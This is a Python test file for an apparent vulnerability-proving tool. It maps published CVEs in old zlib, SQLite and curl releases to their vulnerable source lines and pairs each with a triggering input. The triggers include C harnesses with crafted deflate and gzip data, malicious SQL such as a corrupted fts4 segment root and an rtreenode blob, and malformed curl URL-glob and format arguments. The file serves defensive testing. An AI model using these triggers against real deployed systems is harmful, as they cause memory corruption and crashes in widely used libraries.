"""Published vulnerabilities (CVEs) of zlib, SQLite and curl, and the attempts that prove them in old versions.

The sources are those of packages of crates.io that contain the libraries.
"""

from dataclasses import dataclass
from pathlib import Path

from jarvis_workers.sec.proof.proof import Attempt, ProofTarget, TreeLine
from tests.sec.proof.cases import harness
from tests.sec.proof.crates import CratePackage


@dataclass(frozen=True)
class Vulnerability:
    """A CVE: its weakness, the file and the text with which the line of the sink begins, and the proving attempt.

    The text is that of the vulnerable version, and optionally another one for the fixed version.
    """

    name: str
    cwe: int
    file: str
    sink: str
    attempt: Attempt
    fixed_sink: str = ""

    def target(self, root: Path, *, fixed: bool) -> ProofTarget:
        """Return the finding in a version."""
        lines = (root / self.file).read_text(errors="replace").split("\n")
        text = (fixed and self.fixed_sink) or self.sink
        sinks = [number for number, line in enumerate(lines, 1) if line.strip().startswith(text)]
        assert len(sinks) == 1, (self.name, fixed, sinks)
        first = max(number for number, line in enumerate(lines[: sinks[0]], 1) if line.startswith("}")) + 1
        last = next(number for number, line in enumerate(lines, 1) if number > sinks[0] and line.startswith("}"))
        return ProofTarget(TreeLine(self.file, sinks[0]), self.cwe, first, last)


@dataclass(frozen=True)
class PublishedLibrary:
    """A library with vulnerabilities in one version, all of which are fixed in another one; `build` is its command."""

    name: str
    vulnerable: CratePackage
    fixed: CratePackage
    vulnerabilities: tuple[Vulnerability, ...]
    build: str | None = None


def sql(text: str) -> Attempt:
    """Return a harness that executes SQL in a database in memory."""
    lines = "\n".join(f'        "{line}\\n"' for line in text.replace("\\", "\\\\").replace('"', '\\"').split("\n"))
    return harness(
        "    sqlite3 *database = NULL;\n    char *message = NULL;\n    const char *text =\n"
        f"{lines};\n"
        '    if (sqlite3_open(":memory:", &database) == SQLITE_OK)\n'
        "        sqlite3_exec(database, text, NULL, &database, &message);\n"
        '    if (message)\n        printf("%s", message);\n'
        "    sqlite3_close(database);",
        "sqlite3.h",
    )


Z_FIXED_BLOCKS = """\
    static unsigned char data[60000];
    static unsigned char out[200000];
    unsigned random = 1;
    size_t size = 0;
    for (; size < 20480; size++) {
        random = random * 1103515245 + 12345;
        data[size] = random >> 16;
    }
    while (size < 50000) {
        size_t first = size > 32500 ? size - 32500 : 0, last = size - 16400 < 20340 ? size - 16400 : 20340;
        random = random * 1103515245 + 12345;
        memcpy(data + size, data + first + (random >> 8) % (last - first), 140);
        size += 140;
    }
    z_stream stream;
    memset(&stream, 0, sizeof stream);
    deflateInit2(&stream, 9, Z_DEFLATED, 15, 1, Z_FIXED);
    stream.next_in = data;
    stream.avail_in = size;
    stream.next_out = out;
    stream.avail_out = sizeof out;
    deflate(&stream, Z_FINISH);
    deflateEnd(&stream);"""
MARK = """\
    z_stream stream;
    memset(&stream, 0, sizeof stream);
    inflateInit(&stream);
    inflateMark(&stream);
    inflateEnd(&stream);"""
EXTRA_FIELD = """\
    unsigned char *input = calloc(1, 52), *rest = calloc(1, 50), *extra = malloc(16), out[64];
    const unsigned char start[] = {0x1f, 0x8b, 8, 4, 0, 0, 0, 0, 0, 3, 100, 0};
    z_stream stream;
    gz_header header;
    memcpy(input, start, sizeof start);
    memset(&stream, 0, sizeof stream);
    memset(&header, 0, sizeof header);
    header.extra = extra;
    header.extra_max = 16;
    inflateInit2(&stream, 31);
    inflateGetHeader(&stream, &header);
    stream.next_out = out;
    stream.avail_out = sizeof out;
    stream.next_in = input;
    stream.avail_in = 52;
    inflate(&stream, Z_NO_FLUSH);
    stream.next_in = rest;
    stream.avail_in = 50;
    inflate(&stream, Z_NO_FLUSH);
    inflateEnd(&stream);
    free(extra);
    free(rest);
    free(input);"""

ROW_SIZE = """\
CREATE TABLE t(a INTEGER PRIMARY KEY, b, c);
CREATE INDEX i ON t(b);
INSERT INTO t VALUES (1, 2, 3);
ANALYZE;
DELETE FROM sqlite_stat1;
INSERT INTO sqlite_stat1 VALUES('t', NULL, '100 sz=1'), ('t', 'i', '100 1 sz=1');
ANALYZE sqlite_master;
SELECT c FROM t WHERE b = 2;"""
SEGMENT_ROOT = """\
CREATE VIRTUAL TABLE f USING fts4(a);
WITH RECURSIVE c(x) AS (VALUES(1) UNION ALL SELECT x+1 FROM c WHERE x<3000) INSERT INTO f SELECT 'u' || x FROM c;
WITH RECURSIVE c(x) AS (VALUES(1) UNION ALL SELECT x+1 FROM c WHERE x<3000) INSERT INTO f SELECT 'v' || x FROM c;
INSERT INTO f(f) VALUES('merge=2,2');
UPDATE f_segdir SET root = x'00ff7f6161' WHERE level = 1;
INSERT INTO f(f) VALUES('merge=2,2');"""
R_TREE_NODE = "SELECT rtreenode(5, x'0000ffff');"
PRECISION = "SELECT printf('%.*g', 2147483647, 0.01);"

LIBZ = "libz-sys"
ZLIB_1_2_13 = CratePackage(
    LIBZ, "1.1.9", "56ee889ecc9568871456d42f603d6a0ce59ff328d291063a45cbdf0036baf6db", "src/zlib"
)
ZLIB_1_2_11 = CratePackage(
    LIBZ, "1.0.25", "2eb5e43362e38e2bca2fd5f5134c4d4564a23a5c28e9b95411652021a8675ebe", "src/zlib"
)
ZLIB_1_2_8 = CratePackage(
    LIBZ, "1.0.0", "0d39fd40ccee416ae92cee7c2b6facd3cc8c3114518ba583a3f5986f5dbfaa55", "src/zlib-1.2.8"
)
SQLITE_3_25_2 = CratePackage(
    "libsqlite3-sys", "0.10.0", "742b695cbfb89e549dca6960a55e6802f67d352e33e97859ee46dee835211b0f", "sqlite3"
)
SQLITE_3_33 = CratePackage(
    "libsqlite3-sys", "0.20.1", "64d31059f22935e6c31830db5249ba2b7ecd54fd73a9909286f0a67aa55c2fbd", "sqlite3"
)
CURL_7_48 = CratePackage(
    "curl-sys", "0.2.0", "780c1e295903f12cb0598d73703f850615f685eeeb4f2323fbd2911ef337da7e", "curl"
)
CURL_7_65 = CratePackage(
    "curl-sys", "0.4.20", "5e90ae10f635645cba9cad1023535f54915a95c58c44751c6ed70dbaeb17a408", "curl"
)
SQLITE_BUILD = "cc -DSQLITE_ENABLE_RTREE -DSQLITE_ENABLE_FTS3 -DSQLITE_OMIT_LOAD_EXTENSION -c sqlite3.c"

# The definitions that the configuration of curl finds on Linux; a library for HTTP alone, without TLS.
CURL_HEADERS = (
    *("sys_types", "sys_stat", "sys_time", "sys_socket", "sys_select", "sys_ioctl", "netdb", "netinet_in"),
    *("netinet_tcp", "arpa_inet", "errno", "fcntl", "unistd", "stdlib", "string", "strings", "time", "signal"),
    *("stdio", "assert", "locale", "poll", "inttypes", "stdint", "stdbool", "pwd", "limits"),
)
CURL_FUNCTIONS = (
    *("recv", "send", "select", "socket", "fcntl_o_nonblock", "gettimeofday", "strdup", "strcasecmp", "strncasecmp"),
    *("strtoll", "strtok_r", "getaddrinfo", "getpeername", "getsockname", "signal", "memrchr", "bool_t", "poll_fine"),
    *("struct_timeval", "longlong"),
)
CURL_VALUES = (
    *("CURL_STATICLIB", "HTTP_ONLY", "CURL_DISABLE_LDAP", "CURL_DISABLE_NTLM", "STDC_HEADERS", "OS='\"Linux\"'"),
    *("SIZEOF_INT=4", "SIZEOF_SHORT=2", "SIZEOF_LONG=8", "SIZEOF_SIZE_T=8", "SIZEOF_OFF_T=8", "SIZEOF_TIME_T=8"),
    *("RECV_TYPE_ARG1=int", "RECV_TYPE_ARG2='void *'", "RECV_TYPE_ARG3=size_t", "RECV_TYPE_ARG4=int"),
    *("RECV_TYPE_RETV=ssize_t", "SEND_TYPE_ARG1=int", "SEND_TYPE_ARG2='void *'", "SEND_QUAL_ARG2=const"),
    *("SEND_TYPE_ARG3=size_t", "SEND_TYPE_ARG4=int", "SEND_TYPE_RETV=ssize_t"),
)
CURL_DEFINITIONS = " ".join(
    f"-D{one}"
    for one in (
        *CURL_VALUES,
        *(f"HAVE_{one.upper()}_H" for one in CURL_HEADERS),
        *(f"HAVE_{one.upper()}" for one in CURL_FUNCTIONS),
    )
)
CURL_BUILD = f"""\
cat > options <<'END'
-w -Iinclude -Ilib -Isrc {CURL_DEFINITIONS}
END
grep -q 'SIZEOF_CURL_OFF_T shall not' lib/curl_setup.h || echo -DSIZEOF_CURL_OFF_T=8 >> options
[ -f include/curl/system.h ] || cp include/curl/curlbuild.h.dist include/curl/curlbuild.h
cp src/tool_hugehelp.c.cvs src/tool_hugehelp.c
compile() {{
    find $1 -name '*.c' | xargs -P 2 -n 8 sh -c 'for file; do
        cc @options '$2' -c $file -o $(echo $file | tr / _ | sed "s/c$/o/") || exit 255
    done' sh
}}
compile lib -DBUILDING_LIBCURL && compile src && cc *.o -o curl"""


def curl(*arguments: str) -> Attempt:
    """Return an attempt that runs the program curl."""
    return Attempt("program", "curl", arguments)


LIBRARIES = (
    PublishedLibrary(
        "zlib 1.2.11",
        ZLIB_1_2_11,
        ZLIB_1_2_13,
        (
            Vulnerability("CVE-2018-25032", 787, "trees.c", "code = d_code(dist);", harness(Z_FIXED_BLOCKS, "zlib.h")),
            Vulnerability(
                "CVE-2022-37434",
                120,
                "inflate.c",
                "zmemcpy(state->head->extra + len, next,",
                harness(EXTRA_FIELD, "zlib.h"),
            ),
        ),
    ),
    PublishedLibrary(
        "zlib 1.2.8",
        ZLIB_1_2_8,
        ZLIB_1_2_13,
        (
            Vulnerability(
                "CVE-2016-9842",
                1335,
                "inflate.c",
                "return ((long)(state->back) << 16) +",
                harness(MARK, "zlib.h"),
                "return (long)(((unsigned long)((long)state->back)) << 16) +",
            ),
        ),
    ),
    PublishedLibrary(
        "SQLite 3.25.2",
        SQLITE_3_25_2,
        SQLITE_3_33,
        (
            Vulnerability(
                "CVE-2019-16168", 369, "sqlite3.c", "rCostIdx = pNew->nOut + 1 + (15*pProbe->szIdxRow)/", sql(ROW_SIZE)
            ),
            Vulnerability("CVE-2019-8457", 125, "sqlite3.c", "nodeGetCell(&tree, &node, ii, &cell);", sql(R_TREE_NODE)),
            Vulnerability(
                "CVE-2018-20346", 190, "sqlite3.c", "memcpy(&p->term.a[nPrefix], &p->aNode[p->iOff]", sql(SEGMENT_ROOT)
            ),
            Vulnerability("CVE-2020-13434", 190, "sqlite3.c", "precision = precision - exp;", sql(PRECISION)),
        ),
        SQLITE_BUILD,
    ),
    PublishedLibrary(
        "curl 7.48",
        CURL_7_48,
        CURL_7_65,
        (
            Vulnerability(
                "CVE-2016-8620", 125, "src/tool_urlglob.c", "while(*pattern && !res) {", curl("http://localhost/[a-c")
            ),
            Vulnerability(
                "CVE-2017-1000101",
                126,
                "src/tool_urlglob.c",
                "if(endp && (*endp == ']')) {",
                curl("http://localhost/[0-60000000000000000000"),
            ),
            Vulnerability(
                "CVE-2017-7407",
                125,
                "src/tool_writeout.c",
                "while(ptr && *ptr) {",
                curl("-w", "%", "http://localhost/"),
            ),
        ),
        CURL_BUILD,
    ),
)
